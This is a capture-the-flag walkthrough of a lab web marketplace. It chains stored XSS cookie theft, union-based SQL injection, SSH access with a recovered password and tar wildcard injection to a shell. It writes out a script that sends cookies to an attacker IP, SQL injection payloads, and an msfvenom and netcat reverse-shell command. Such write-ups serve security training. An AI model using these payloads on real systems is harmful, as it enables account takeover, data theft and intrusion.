sudo nmap -p- -sS -sV

22/tcp    open  ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.3
(Ubuntu Linux; protocol 2.0)
80/tcp    open  http    nginx 1.19.2
32768/tcp open  http    Node.js (Express middleware)
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

The root page for port 80 takes us to the following page:

Under the /signup directory we can create a new user.

After creating the account moving over to the /login directory and then proceed to login with the user that was created.Looking at the available listings we can see that we have an opportunity to report a listing.

After reporting a listing we receive a confirmation message to say that an someone will soon investigate the listing. Shortly after we receive a resppmse to say that the listing has been reviewed.

This implies that staff are actively checking the listings that are reported. Knowing this we have potential for XSS.

We can then create our own listing and check to see if we can potentially use XSS. I used the <h1> header tag for testing purposes.

After submitting the query we are redirected to the new listing and can see that this has worked.

With this we can set a XSS script to retrieve a cookie when someone visits the listing to send back to us. I used the following python script below:

Edit the script to include the VPN interface IP and preferredport.

Before running the script add the following code to a new listing in the description box.

<script>var i=new Image;i.src="http://<IP>/?"+document.cookie;</script>

Now report the new listing and then run the script. After a short while you should receive a cookie back.

We can then open the Firefox storage console and replace our current cookie with the new one whilst on the target machine webpage. If this has worked as expected we should then login as the admin account.

From here going to the administration panel and selecting a user shows potential for SQL injection.

Putting an apostrophe in the statement in place of a 1 to purposely break the statement produces a SQL error.

The following commands was then used to enumerate the database.

Find how many columns exist in the table:

user=1 order by 4

Run statement in a write able column to find database names.

user=-1 union select 1,group_concat(schema_name),3,4 from information_schema.schemata-- -

Show tables from selected 'marketplace' database.

user=-1 union select 1,group_concat(table_name),3,4 from information_schema.tables where table_schema='marketplace'-- -

Get column names from selected table 'messages'.

user=-1 union select group_concat(column_name,'\n'),2,3,4 from information_schema.columns where table_name='messages'-- -

Dump contents of select found columns inside the table.

user=-1 union select 1,group_concat(message_content,'\n'),3,4 from marketplace.messages-- -Dump contents of messages table.

user=-1 union select 1,group_concat(message_content,'\n'),3,4 from marketplace.messages-- -

We now have a potential password of: @b_ENXkGYUCAv3zJ

Trying the user jake on SSH with the given password allows SSH access.

Checking sudo -l shows we can run the /opt/backups/ file as michael without specifying a password.

Running cat on shows the following contents:

echo "Backing up files...";
tar cf /opt/backups/backup.tar *

As the tar command end in a wildcard we can exploit this to gain a shell as michael. This technique is referenced here in

Conceptual Information:

If you have ever explored tar to read its optional switches then you will find the following option.–checkpoint[=NUMBER] show progress messages every Numbers record (default 10)

–checkpoint-action=ACTION execute ACTION on each checkpoint

There is a ‘–checkpoint-action’ option, that will specify the program which will be executed when the checkpoint is reached. Mainly, this permits us to run an arbitrary command. Hence Options ‘–checkpoint=1’ and ‘–checkpoint-action=exec=sh’ are handed to the ‘tar’ program as command-line options.

Created a netcat reverse shell with the command below.

msfvenom -p cmd/unix/reverse_netcat LHOST= LPORT=80

Run the followingcommands on the host machine inside the /opt/backup directory. Specifying the generated msfvenom command.

echo "mkfifo /tmp/zcvkti; nc 80 0</tmp/zcvkti | /bin/sh >/tmp/zcvkti 2>&1; rm /tmp/zcvkti" >
echo "" >"--checkpoint-action=exec=sh"
echo "" > --checkpoint=1
chmod 777 backup.tar
chmod 777
sudo -u michael /opt/backups/We should then receive a shell as michael.

As michael is part of the docker groupwe can escalate privileges as per GTFOBins:

Last updated